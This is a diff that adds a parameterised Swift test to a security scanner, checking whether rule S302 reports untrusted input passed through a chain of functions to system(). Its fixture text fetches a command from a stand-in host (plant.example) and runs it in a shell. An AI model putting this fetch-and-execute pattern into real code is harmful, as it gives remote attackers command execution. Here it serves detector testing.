@@ -34,4 +34,18 @@ import Testing
         #expect(Set(marked).subtracting(found).sorted() == [], "missed")
         #expect(found.count == Set(found).count, "told twice")
     }
+
+    /// A value that is handed on and on, by as many functions.
+    @Test(arguments: [(4, 1), (40, 0)])
+    func tellsOnlyWaysThatPeopleFollow(handedOn: Int, told: Int) throws {
+        let links = (0..<handedOn).map { "func link\($0)(_ command: String) { link\($0 + 1)(command) }" }.joined(separator: "\n")
+        let text = """
+            func link\(handedOn)(_ command: String) { system(command) }
+            \(links)
+            func receive() throws { link0(try String(contentsOf: URL(string: "https://plant.example/command")!)) }
+            """
+        let file = SourceFile(path: "Sources/App/chain.swift", bytes: Array(text.utf8))
+        let rules = try Catalog.builtin().rules.filter { $0.shortID == "S302" }
+        #expect(runSwiftChecks(on: [file], rules: rules).count == told)
+    }
 }
